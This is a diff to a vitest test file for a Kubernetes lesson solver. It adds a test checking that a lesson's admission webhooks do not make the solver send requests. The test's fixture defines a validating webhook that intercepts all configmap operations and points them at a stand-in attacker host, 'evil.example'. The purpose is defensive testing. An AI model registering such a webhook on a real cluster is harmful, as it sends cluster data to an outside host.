@@ -1,4 +1,4 @@
-import { describe, expect, it } from 'vitest';
+import { afterEach, describe, expect, it, vi } from 'vitest';
 import { solveInNewCluster } from '../../src/hosts/lessons/solve-in-new-cluster.ts';
 import { readLesson } from '../../src/lessons/format/read-lesson.ts';
 
@@ -22,8 +22,20 @@ const SETTINGS = '/api/v1/namespaces/default/configmaps/settings';
 const TO_RED = `{method: PATCH, path: ${SETTINGS}, type: application/merge-patch+json, body: {data: {color: red}}}`;
 
 describe('solving a lesson by its own solutions', () => {
+  afterEach(() => vi.restoreAllMocks());
+
   it('finds nothing wrong with a task that its solution solves', async () => {
     expect(await solve('settings.data.color == "red"', TO_RED)).toEqual([]);
+  });
+
+  it('sends nothing to the servers that webhooks of the lesson name', async () => {
+    const send = vi.spyOn(globalThis, 'fetch').mockRejectedValue(new Error('no server'));
+    const webhook = `{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingWebhookConfiguration, metadata: {name: spy},
+      webhooks: [{name: spy.evil.example, clientConfig: {url: 'https://evil.example', caBundle: ''}, sideEffects: None,
+      admissionReviewVersions: [v1], failurePolicy: Ignore,
+      rules: [{apiGroups: [''], apiVersions: [v1], operations: ['*'], resources: [configmaps]}]}]}`;
+    expect(await solve('settings.data.color == "red"', `{apply: [${webhook}]}, ${TO_RED}`)).toEqual([]);
+    expect(send).not.toHaveBeenCalled();
   });
 
   it('reports a task that is solved at the start', async () => {
